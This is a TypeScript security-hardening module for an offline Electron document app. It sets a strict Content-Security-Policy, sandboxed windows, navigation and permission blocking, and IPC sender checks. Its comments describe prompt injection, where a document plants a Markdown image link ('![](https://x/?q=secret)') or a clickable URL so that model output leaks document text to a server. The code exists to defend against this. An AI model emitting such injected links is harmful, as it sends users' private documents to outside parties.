/**
 * The security set-up of DocuMind's windows and session, as plain functions over the few Electron
 * methods they call. Only Electron *types* are imported, so tests run these functions against small
 * recording fakes under plain Node, with no Electron binary, and assert what they register.
 */
import type { BrowserWindowConstructorOptions } from 'electron'

/** The privileged scheme the renderer is served from (see protocol.ts). */
export const APP_SCHEME = 'app'
/** The one host of the scheme: `app://documind/index.html`. */
export const APP_HOST = 'documind'
/** Where a window starts. */
export const APP_ENTRY_URL = `${APP_SCHEME}://${APP_HOST}/index.html`

/**
 * The Content-Security-Policy every renderer response carries. Everything comes from the app's own
 * origin; nothing remote, no inline or eval'd script, no plugins, no frames, no forms. Images may be
 * `data:`/`blob:` (rendered locally), never remote: a remote image in model output would be a way to
 * send document text to a server (prompt-injected Markdown `![](https://x/?q=secret)`).
 */
export function cspHeader(): string {
  return [
    "default-src 'none'",
    "script-src 'self'",
    "style-src 'self'",
    "img-src 'self' data: blob:",
    "font-src 'self' data:",
    "connect-src 'self'",
    "worker-src 'self'",
    "manifest-src 'self'",
    "media-src 'none'",
    "object-src 'none'",
    "frame-src 'none'",
    "child-src 'none'",
    "frame-ancestors 'none'",
    "base-uri 'none'",
    "form-action 'none'"
  ].join('; ')
}

/** Headers added to every response of the app's scheme. */
export function securityHeaders(): Record<string, string> {
  return {
    'Content-Security-Policy': cspHeader(),
    'X-Content-Type-Options': 'nosniff',
    'Cross-Origin-Opener-Policy': 'same-origin',
    'Cross-Origin-Resource-Policy': 'same-origin',
    'Referrer-Policy': 'no-referrer'
  }
}

/**
 * A window's options: the renderer is an isolated, sandboxed web page with no Node, whose only way
 * out is the preload's narrow bridge. Spellcheck is off because Chromium would download its
 * dictionaries from Google's servers, which an offline app must not do.
 */
export function windowOptions(preloadPath: string): BrowserWindowConstructorOptions {
  return {
    width: 1200,
    height: 800,
    minWidth: 720,
    minHeight: 480,
    title: 'DocuMind',
    show: false,
    webPreferences: {
      preload: preloadPath,
      contextIsolation: true,
      sandbox: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      allowRunningInsecureContent: false,
      webviewTag: false,
      experimentalFeatures: false,
      navigateOnDragDrop: false,
      spellcheck: false,
      safeDialogs: true,
      // Middle-click would otherwise try to open links in a new window (denied anyway below).
      disableBlinkFeatures: 'Auxclick'
    }
  }
}

/** An event a handler can cancel, as Electron passes to navigation and webview listeners. */
export interface CancellableEvent {
  preventDefault(): void
}

/** The webContents methods hardenContents uses. */
export interface HardenableContents {
  on(event: 'will-navigate' | 'will-frame-navigate' | 'will-redirect', listener: (event: CancellableEvent) => void): unknown
  on(event: 'will-attach-webview', listener: (event: CancellableEvent) => void): unknown
  setWindowOpenHandler(handler: (details: { url: string }) => { action: 'deny' }): void
}

/**
 * Blocks every way a page could leave the app: navigation (top frame, subframes, redirects), new
 * windows and webviews. Links in documents and model output are not opened at all, not even in the
 * system browser: their URLs can be written by whoever wrote a document (prompt injection), and a
 * click would then carry document text to a server. The renderer shows such links as text.
 */
export function hardenContents(contents: HardenableContents, log: (message: string) => void = () => {}): void {
  const refuse = (what: string) => (event: CancellableEvent & { url?: string }) => {
    event.preventDefault()
    log(`blocked ${what}${event.url ? ` to ${event.url.slice(0, 200)}` : ''}`)
  }
  contents.on('will-navigate', refuse('navigation'))
  contents.on('will-frame-navigate', refuse('frame navigation'))
  contents.on('will-redirect', refuse('redirect'))
  contents.on('will-attach-webview', refuse('webview'))
  contents.setWindowOpenHandler(({ url }) => {
    log(`blocked new window to ${url.slice(0, 200)}`)
    return { action: 'deny' }
  })
}

/** The session methods hardenSession uses. */
export interface HardenableSession {
  setPermissionRequestHandler(handler: (contents: unknown, permission: string, callback: (granted: boolean) => void) => void): void
  setPermissionCheckHandler(handler: (contents: unknown, permission: string) => boolean): void
  setDevicePermissionHandler(handler: () => boolean): void
  setSpellCheckerEnabled(enabled: boolean): void
  webRequest: {
    onBeforeRequest(handler: (details: { url: string }, callback: (response: { cancel: boolean }) => void) => void): void
  }
}

/** Schemes a renderer request may use: the app's own, and local data. */
const LOCAL_SCHEMES = new Set([`${APP_SCHEME}:`, 'data:', 'blob:', 'devtools:'])

/** Whether a request from the session stays on the machine and inside the app. */
export function isLocalRequest(url: string): boolean {
  try {
    const parsed = new URL(url)
    if (parsed.protocol === `${APP_SCHEME}:`) return parsed.host === APP_HOST
    return LOCAL_SCHEMES.has(parsed.protocol)
  } catch {
    return false
  }
}

/**
 * Denies every permission (camera, microphone, notifications, geolocation, USB, HID, serial…) and
 * cancels any request that is not to the app itself: the renderer never needs the network, so even
 * a CSP mistake cannot make it reach one. The Ollama traffic is the main process's, not the page's.
 */
export function hardenSession(session: HardenableSession, log: (message: string) => void = () => {}): void {
  session.setPermissionRequestHandler((_contents, permission, callback) => {
    log(`denied permission request: ${permission}`)
    callback(false)
  })
  session.setPermissionCheckHandler(() => false)
  session.setDevicePermissionHandler(() => false)
  session.setSpellCheckerEnabled(false)
  session.webRequest.onBeforeRequest((details, callback) => {
    const local = isLocalRequest(details.url)
    if (!local) log(`cancelled request to ${details.url.slice(0, 200)}`)
    callback({ cancel: !local })
  })
}

/** The parts of an IPC event that tell who sent it. */
export interface IpcSender {
  sender: { id: number; mainFrame?: unknown }
  senderFrame: { url: string; parent: unknown } | null
}

/**
 * Whether an IPC message comes from one of our windows' top frame showing our app. A message from
 * another webContents (devtools, a future helper window), from a subframe, or from a frame that has
 * navigated away (or is gone: `senderFrame` is then null) is refused.
 */
export function isAllowedSender(event: IpcSender, isOurContents: (id: number) => boolean): boolean {
  if (!isOurContents(event.sender.id)) return false
  const frame = event.senderFrame
  if (!frame || frame.parent !== null) return false
  if (event.sender.mainFrame !== undefined && event.sender.mainFrame !== frame) return false
  return isAppUrl(frame.url)
}

/** Whether a URL is a page of the app's own origin (`app://documind/...`). */
export function isAppUrl(url: string): boolean {
  try {
    const parsed = new URL(url)
    // Node's URL gives a non-special scheme the origin "null", so compare scheme and host.
    return parsed.protocol === `${APP_SCHEME}:` && parsed.host === APP_HOST && parsed.username === '' && parsed.password === ''
  } catch {
    return false
  }
}
